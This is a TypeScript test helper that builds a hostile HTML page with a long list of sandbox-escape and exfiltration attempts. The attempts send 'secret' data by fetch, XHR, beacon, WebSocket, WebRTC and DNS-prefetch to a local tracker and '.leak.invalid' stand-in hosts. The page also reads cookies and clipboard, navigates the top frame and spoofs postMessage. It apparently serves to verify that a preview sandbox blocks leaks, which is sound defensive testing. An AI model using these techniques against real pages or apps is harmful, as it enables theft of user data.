import { once } from 'node:events'
import { createSocket } from 'node:dgram'
import { mkdtempSync, readFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { expect, onTestFinished } from 'vitest'
import { removeFolder } from './test'
import type { Tracker } from './tracker'

/** Two relays that WebRTC could reach, and what they heard. */
export type Relay = { heard: string[]; stun: string; turn: string; close(): void }

/** Servers that hear what is no request: the two ways that WebRTC takes to a relay. */
export async function startRelay(): Promise<Relay> {
  const heard: string[] = []
  const udp = createSocket('udp4').on('message', () => heard.push('udp'))
  udp.bind(0, '127.0.0.1')
  await once(udp, 'listening')
  const tcp = createServer((socket) => {
    heard.push('tcp')
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await once(tcp, 'listening')
  return {
    heard,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    turn: `turn:127.0.0.1:${(tcp.address() as AddressInfo).port}?transport=tcp`,
    close: () => {
      udp.close()
      tcp.close()
    },
  }
}

/** A name whose look-up would already say something to whoever answers for it. */
const leak = (what: string): string => `${what}.leak.invalid`

/** A file in which Chromium writes down everything that its network did, and the switch that makes it. */
export function recorded(): { netLog: string; args: string[] } {
  const netLog = join(mkdtempSync(join(tmpdir(), 'runyour-previews-')), 'net.json')
  onTestFinished(() => removeFolder(dirname(netLog)))
  return { netLog, args: [`--log-net-log=${netLog}`] }
}

/** Names that anybody looked up or connected to during a run. */
export function namesAsked(netLog: string): string[] {
  const log = readFileSync(netLog, 'utf8')
  expect(log).toContain('"constants"')
  return log.match(/"(?:host|hostname|qname)":"[^"]*leak\.invalid[^"]*"/g) ?? []
}

/** Everything a page could try, each attempt apart, so that one that throws holds up no other. */
export function hostilePage(relay: Relay, tracker: Pick<Tracker, 'url' | 'webSocketUrl'>): string {
  return `<!doctype html><html><head><title>nasty</title>
<link rel="stylesheet" href="URL/style.css"><link rel="prefetch" href="URL/prefetch"><link rel="preload" as="image" href="URL/preload">
<link rel="preconnect" href="URL"><link rel="preconnect" href="http://${leak('preconnect')}"><link rel="dns-prefetch" href="http://${leak('dns-prefetch')}">
<link rel="prerender" href="URL/prerender"><link rel="icon" href="URL/icon.png"><link rel="manifest" href="URL/manifest.json"><link rel="modulepreload" href="URL/module.js">
<base href="URL/base/"><style>@import "URL/import.css"; @font-face { font-family: f; src: url(URL/font.woff2) } body { background: url(URL/background); font-family: f; cursor: url(URL/cursor), auto }</style>
<script type="speculationrules">{"prefetch":[{"urls":["URL/speculation"]}]}</script></head><body>
<img src="URL/image.png" srcset="URL/srcset.png 2x"><video src="URL/video.mp4" poster="URL/poster.png" autoplay></video><audio src="URL/audio.mp3" autoplay></audio>
<iframe src="URL/frame"></iframe><iframe src="app://runyour/index.html"></iframe><object data="URL/object"></object><embed src="URL/embed"><script src="URL/script.js"></script><script type="module" src="URL/module.js"></script>
<svg width="9" height="9"><image href="URL/svg.png" /><use href="URL/use.svg#a" /></svg><input type="image" src="URL/input.png"><form id="form" action="URL/form" method="post"><input name="a" value="secret"></form>
<a id="ping" href="#x" ping="URL/ping">ping</a><a id="download" download="x.html" href="data:text/html,x">save</a><a id="blank" target="_blank" href="URL/blank">blank</a><a id="top" target="_top" href="URL/top">top</a>
<script>
const report = (name, value) => parent.postMessage({ report: [name, String(value)] }, '*')
const attempt = async (name, run) => { try { report(name, await run()) } catch (error) { report(name, error.name) } }
const rtc = ${attemptRtc}
const late = (run, ms = 400) => Promise.race([run(), new Promise((done) => setTimeout(() => done('never'), ms))])
;(async () => {
  await attempt('bridge', () => typeof window.runyour)
  await attempt('parent bridge', () => typeof parent.runyour)
  await attempt('parent document', () => parent.document.title)
  await attempt('top address', () => top.location.href)
  await attempt('node', () => typeof process + typeof require)
  await attempt('origin', () => origin)
  await attempt('cookie', () => document.cookie)
  await attempt('localStorage', () => localStorage.length)
  await attempt('sessionStorage', () => sessionStorage.length)
  await attempt('indexedDB', () => late(() => new Promise((done, fail) => { const open = indexedDB.open('x'); open.onsuccess = () => done('open'); open.onerror = () => fail(open.error) })))
  await attempt('caches', () => late(() => caches.open('x').then(() => 'open')))
  await attempt('eval', () => eval('"evaluated"'))
  await attempt('fetch', () => fetch('URL/fetch?secret').then(() => 'fetched'))
  await attempt('fetch the app', () => fetch('app://runyour/index.html').then(() => 'fetched'))
  await attempt('XMLHttpRequest', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = () => done('loaded'); x.onerror = () => fail(new TypeError()); x.open('POST', 'URL/xhr'); x.send('secret') }))
  await attempt('WebSocket', () => late(() => new Promise((done, fail) => { const s = new WebSocket('SOCKET/socket'); s.onopen = () => done('open'); s.onerror = () => fail(new TypeError()) })))
  await attempt('EventSource', () => late(() => new Promise((done, fail) => { const s = new EventSource('URL/events'); s.onopen = () => done('open'); s.onerror = () => fail(new TypeError()) })))
  await attempt('WebTransport', () => late(() => new WebTransport('https://${leak('transport')}').ready.then(() => 'open')))
  await attempt('beacon', () => { navigator.sendBeacon('URL/beacon', 'secret'); return 'sent' })
  await attempt('worker', () => late(() => new Promise((done, fail) => { const w = new Worker(window.URL.createObjectURL(new Blob(['postMessage("ran")']))); w.onmessage = () => done('ran'); w.onerror = () => fail(new TypeError()) })))
  await attempt('service worker', () => navigator.serviceWorker.register('URL/worker.js').then(() => 'registered'))
  await attempt('import', () => import('URL/imported.js').then(() => 'imported'))
  await attempt('scripted image', () => late(() => new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('refused'); i.src = 'URL/scripted.png?secret' })))
  await attempt('scripted dns', () => { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://${leak('scripted')}'; document.head.append(l); return 'added' })
  await attempt('rtc', () => rtc('frame', '${relay.stun}', '${relay.turn}'))
  await attempt('notification', () => Notification.requestPermission())
  await attempt('position', () => late(() => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('found'), (error) => done('refused')))))
  await attempt('camera', () => late(() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen')))
  await attempt('clipboard', () => late(() => navigator.clipboard.readText().then(() => 'read')))
  await attempt('fullscreen', () => late(() => document.documentElement.requestFullscreen().then(() => 'full')))
  await attempt('dialogs', () => { alert('x'); return confirm('x') })
  await attempt('open', () => String(window.open('URL/opened')))
  await attempt('close', () => { top.close(); return 'asked' })
  await attempt('form', () => { document.getElementById('form').submit(); return 'submitted' })
  await attempt('links', () => { for (const id of ['ping', 'download', 'blank', 'top']) document.getElementById(id).click(); return 'clicked' })
  await attempt('top', () => { top.location = 'URL/top-location'; return 'set' })
  await attempt('parent', () => { parent.location.replace('URL/parent-location'); return 'set' })
  for (const lie of [{ preview: 'height', pixels: 1e9 }, { preview: 'failed', reason: '<img src=x>' }, { preview: 'height', pixels: 'x' }]) parent.postMessage(lie, '*')
  report('end', 'reached')
})()
</script></body></html>`
    .replaceAll(/(?<!window\.)URL(?=[/"')])/g, tracker.url)
    .replaceAll('SOCKET', tracker.webSocketUrl)
}

/** Asks two relays for a way out, by address and by name, and tells whether that gave one. */
export const attemptRtc = `(name, stun, turn) => { const servers = [{ urls: stun }, { urls: turn, username: 'u', credential: 'c' }, { urls: 'stun:stun-' + name + '.leak.invalid' }, { urls: 'turn:turn-' + name + '.leak.invalid?transport=tcp', username: 'u', credential: 'c' }]; const peer = new RTCPeerConnection({ iceServers: servers }); peer.createDataChannel('x'); return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => new Promise((done) => { const found = []; peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate); setTimeout(() => done(found.length), 1500) })) }`
